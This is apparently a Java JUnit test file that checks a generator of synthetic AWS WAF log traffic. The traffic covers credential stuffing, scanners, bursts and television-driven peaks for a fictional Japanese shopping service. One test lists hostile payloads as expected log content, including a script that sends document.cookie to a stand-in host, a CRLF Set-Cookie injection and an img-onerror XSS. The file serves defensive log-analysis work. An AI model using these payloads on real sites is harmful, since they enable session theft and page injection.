package dev.kamae.demo.traffic;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.time.LocalDate;
import java.time.ZonedDateTime;
import java.util.Comparator;
import java.util.EnumSet;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.function.Predicate;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/** Who comes within two weeks, and what the rules make of them. */
class SceneTests {

    private static final LocalDate FIRST = LocalDate.of(2026, 11, 10);
    private static final int DAYS = 14;

    private static List<Line> lines;

    /** As much of a line as the tests look at. */
    private record Line(
            String acl,
            ZonedDateTime at,
            String action,
            String rule,
            String address,
            String country,
            String uri,
            String agent,
            String session,
            String id,
            String cloudFrontId,
            List<String> groups,
            Set<Scene> scenes) {

        static Line of(JsonNode line) {
            return new Line(
                    DemoLines.acl(line).intern(),
                    Instant.ofEpochMilli(line.path("timestamp").longValue()).atZone(DemoLines.TOKYO),
                    DemoLines.action(line).intern(),
                    DemoLines.rule(line).intern(),
                    DemoLines.request(line, "clientIp"),
                    DemoLines.request(line, "country").intern(),
                    DemoLines.request(line, "uri"),
                    DemoLines.header(line, "user-agent").intern(),
                    DemoLines.header(line, "cookie").split(";")[0],
                    DemoLines.request(line, "requestId"),
                    DemoLines.header(line, "x-amz-cf-id"),
                    DemoLines.groups(line).stream().map(String::intern).toList(),
                    Scene.of(line));
        }

        boolean isOwnApp() {
            return acl.equals("hinata-api") && agent.startsWith("HinataMarket/8");
        }

        LocalDate date() {
            return at.toLocalDate();
        }
    }

    @BeforeAll
    static void twoWeeks() {
        lines = DemoLines.of(DemoLines.traffic(3, 0.4), FIRST, DAYS)
                .map(Line::of)
                .toList();
    }

    @Test
    void everySceneIsPlayed() {
        var played = EnumSet.noneOf(Scene.class);
        lines.forEach(line -> played.addAll(line.scenes()));

        assertThat(played).containsExactlyInAnyOrder(Scene.values());
    }

    @Test
    void whateverTheSeedTheDateAndTheFactorTheAttacksAreThere() {
        for (int seed = 10; seed < 13; seed++) {
            var played = EnumSet.noneOf(Scene.class);
            DemoLines.of(DemoLines.traffic(seed, 0.1), FIRST.plusDays(5L * seed), DAYS)
                    .forEach(line -> played.addAll(Scene.of(line)));

            assertThat(played)
                    .as("seed %d", seed)
                    .contains(
                            Scene.CREDENTIALS_TRIED,
                            Scene.SIGN_IN_CHALLENGED,
                            Scene.SIGN_IN_LIMITED,
                            Scene.HOLES_PROBED,
                            Scene.BURST_STOPPED,
                            Scene.TELEVISION,
                            Scene.SLOW_SCAN,
                            Scene.HOSTILE_TEXT,
                            Scene.FAKE_GOOGLEBOT,
                            Scene.RESELLER,
                            Scene.CHALLENGE_SOLVED,
                            Scene.CAPTCHA_SENT);
        }
    }

    @Test
    void actionsAreThereInPlausibleShares() {
        assertThat(perThousand("ALLOW")).isBetween(750L, 950L);
        assertThat(perThousand("BLOCK")).isBetween(30L, 200L);
        assertThat(perThousand("CHALLENGE")).isBetween(2L, 50L);
        assertThat(perThousand("CAPTCHA")).isBetween(1L, 30L);
        assertThat(lines.stream().map(Line::action).distinct()).hasSize(4);
    }

    @Test
    void theDayPeaksBetweenTwentyAndMidnightInJapan() {
        var hours = new int[24];
        lines.stream().filter(Line::isOwnApp).forEach(line -> hours[line.at().getHour()]++);

        var busiest = IntStream.range(0, 24)
                .boxed()
                .sorted(Comparator.comparing(hour -> -hours[hour]))
                .limit(4);
        assertThat(busiest).containsExactlyInAnyOrder(20, 21, 22, 23);
        assertThat(hours[4]).isLessThan(hours[22] / 5);
    }

    @Test
    void daysOffAreBusier() {
        var apps =
                lines.stream().filter(Line::isOwnApp).collect(Collectors.groupingBy(Line::date, Collectors.counting()));

        var thursday = apps.get(LocalDate.of(2026, 11, 19));
        assertThat(apps.get(LocalDate.of(2026, 11, 22))).isGreaterThan(thursday);
        assertThat(apps.get(LocalDate.of(2026, 11, 23))).as("a holiday").isGreaterThan(thursday);
    }

    @Test
    void aBurstPassesAtFirstAndIsThenBlocked() {
        var blocked = lines.stream()
                .filter(line -> line.rule().equals("rate-limit-overseas"))
                .collect(Collectors.groupingBy(line -> line.date() + line.address()));

        assertThat(blocked).isNotEmpty();
        blocked.values().forEach(ofOne -> {
            var first = ofOne.stream().min(Comparator.comparing(Line::at)).orElseThrow();
            var before = lines.stream()
                    .filter(line -> line.address().equals(first.address())
                            && line.acl().equals(first.acl())
                            && line.date().equals(first.date())
                            && line.at().isBefore(first.at()));
            assertThat(before)
                    .hasSizeBetween(90, 140)
                    .allMatch(line -> line.action().equals("ALLOW"));
        });
    }

    @Test
    void aTelevisionAudienceIsDomesticManyAndNotBlocked() {
        var audience = lines.stream()
                .filter(line -> line.scenes().contains(Scene.TELEVISION))
                .toList();

        assertThat(audience)
                .hasSizeGreaterThan(50)
                .allMatch(line -> line.country().equals("JP") && line.action().equals("ALLOW"));
        assertThat(audience.stream().map(Line::address).distinct()).hasSizeGreaterThan(30);
    }

    @Test
    void theSignInOfTheAppsLetsAttemptsThroughAndThatOfTheSiteFew() {
        var nights = lines.stream()
                .filter(line -> line.at().getHour() >= 1 && line.at().getHour() < 5)
                .filter(line -> !line.country().equals("JP"))
                .toList();

        assertThat(nights.stream().filter(line -> line.uri().equals("/api/v2/session")))
                .hasSizeGreaterThan(500)
                .allMatch(line -> line.action().equals("ALLOW"))
                .as("some pose as the app")
                .anyMatch(line -> line.agent().startsWith("HinataMarket-Android/7"));
        assertThat(nights.stream()
                        .filter(line -> line.uri().equals("/login"))
                        .map(Line::action)
                        .distinct())
                .containsExactlyInAnyOrder("ALLOW", "BLOCK", "CHALLENGE");
    }

    @Test
    void aSlowScannerAsksForDaysAndIsNeverStopped() {
        var scanners = lines.stream()
                .filter(line -> line.address().matches("198\\.51\\.100\\.2\\d\\d"))
                .collect(Collectors.groupingBy(Line::address));

        assertThat(scanners).isNotEmpty();
        scanners.values().forEach(scanner -> {
            assertThat(scanner)
                    .hasSizeGreaterThan(300)
                    .allMatch(line -> line.action().equals("ALLOW"));
            assertThat(scanner.stream().map(Line::date).distinct()).hasSize(4);
        });
    }

    @Test
    void manyCustomersShareTheAddressOfACarrier() {
        var sessions = lines.stream()
                .filter(line -> line.address().startsWith("100."))
                .filter(line -> line.session().startsWith("hm_session="))
                .collect(Collectors.groupingBy(Line::address, Collectors.mapping(Line::session, Collectors.toSet())));

        assertThat(sessions.values()).anyMatch(people -> people.size() > 20);
    }

    @Test
    void anAddressIsAlwaysInTheSameCountry() {
        var countries = new HashMap<String, String>();
        lines.forEach(line -> assertThat(countries.putIfAbsent(line.address(), line.country()))
                .as(line.address())
                .isIn(null, line.country()));
    }

    @Test
    void whatPassesCloudFrontIsSeenAgainBehindItWithItsAddress() {
        var inFront = new HashMap<String, Line>();
        lines.stream()
                .filter(line -> line.acl().equals("hinata-live-cdn"))
                .forEach(line -> inFront.put(line.id(), line));
        var behind = lines.stream()
                .filter(line -> line.acl().equals("hinata-live-alb"))
                .filter(line -> !line.cloudFrontId().isEmpty())
                .toList();

        assertThat(behind).hasSizeBetween(500, inFront.size()).allSatisfy(line -> {
            var front = Objects.requireNonNull(inFront.get(line.cloudFrontId()));
            assertThat(front.action()).isEqualTo("ALLOW");
            assertThat(front.uri()).isEqualTo(line.uri());
            assertThat(line.address()).matches("198\\.18\\.(19[2-9]|20[0-7])\\.\\d+");
        });
    }

    @Test
    void aGroupThatFoundNothingIsListedAndOneThatWasNotAskedIsNot() {
        var challenged = first(line -> line.rule().equals("challenge-login"));
        var passed =
                first(line -> line.acl().equals("hinata-www") && line.rule().equals("Default_Action"));
        var allowed = first(line -> line.rule().equals("allow-crawler-ua"));

        assertThat(challenged.groups()).hasSize(4).noneMatch(group -> group.contains("BotControl"));
        assertThat(passed.groups()).hasSize(5).last().isEqualTo("AWS#AWSManagedRulesBotControlRuleSet");
        assertThat(allowed.groups()).isEmpty();
    }

    @Test
    void everyLineHasTheFieldsOfAwsInTheirOrder() {
        assertThat(DemoLines.of(DemoLines.traffic(4, 0.1), FIRST, 1)).allSatisfy(line -> {
            assertThat(line.propertyNames())
                    .startsWith(
                            "timestamp",
                            "formatVersion",
                            "webaclId",
                            "terminatingRuleId",
                            "terminatingRuleType",
                            "action",
                            "terminatingRuleMatchDetails",
                            "httpSourceName",
                            "httpSourceId",
                            "ruleGroupList",
                            "rateBasedRuleList",
                            "nonTerminatingMatchingRules",
                            "requestHeadersInserted",
                            "responseCodeSent",
                            "httpRequest");
            assertThat(line.path("httpRequest").propertyNames())
                    .containsExactly(
                            "clientIp",
                            "country",
                            "headers",
                            "uri",
                            "args",
                            "httpVersion",
                            "httpMethod",
                            "requestId",
                            "fragment",
                            "scheme",
                            "host");
            assertThat(line.has("labels") && line.path("labels").isEmpty())
                    .as("labels are there or absent, never empty")
                    .isFalse();
        });
    }

    @Test
    void hostileTextsStandInOneLineEach() {
        var traffic = DemoLines.traffic(3, 0.1);
        var site = DemoLines.acl(traffic, "hinata-www");
        var found = new HashSet<String>();
        DemoLines.minutes(FIRST, DAYS)
                .flatMap(minute -> DemoLines.text(traffic.lines(site, minute)).lines())
                .forEach(line -> {
                    assertThat(line.chars().noneMatch(letter -> letter < ' ')).isTrue();
                    var parsed = DemoLines.parsed(line);
                    List.of("user-agent", "x-ünïcödé").forEach(name -> found.add(DemoLines.header(parsed, name)));
                    List.of("uri", "args").forEach(name -> found.add(DemoLines.request(parsed, name)));
                });

        assertThat(found)
                .contains(
                        "<script>fetch('//203.0.113.66/'+document.cookie)</script>",
                        "\u001B[2J\u001B[31mroot@portal:~# \u0007",
                        "😈".repeat(40),
                        "値\r\n\tfolded",
                        "q=%0d%0aSet-Cookie:%20admin=1%0d%0a%0d%0a<html>",
                        "/items/<img src=x onerror=alert(1)>/🙃/\u202Etxt");
    }

    @Test
    void theProfilesTellWhatTheLogCannot() {
        var traffic = DemoLines.traffic(3, 1);

        assertThat(DemoLines.acl(traffic, "hinata-live-alb"))
                .returns(DemoWebAcl.Path.BEHIND_CLOUDFRONT, DemoWebAcl::path)
                .returns(DemoWebAcl.BotControl.NONE, DemoWebAcl::botControl)
                .returns(List.of("198.18.192.0/20"), DemoWebAcl::proxies);
        assertThat(DemoLines.acl(traffic, "hinata-api").loginPaths()).containsExactly("/api/v2/session");
        assertThat(lines.stream().filter(Line::isOwnApp).map(Line::agent).distinct())
                .allMatch(agent -> DemoLines.acl(traffic, "hinata-api").ownAppAgents().stream()
                        .anyMatch(agent::startsWith));
    }

    private static Line first(Predicate<Line> which) {
        return lines.stream().filter(which).findFirst().orElseThrow();
    }

    private static long perThousand(String action) {
        return 1_000
                * lines.stream().filter(line -> line.action().equals(action)).count()
                / lines.size();
    }
}
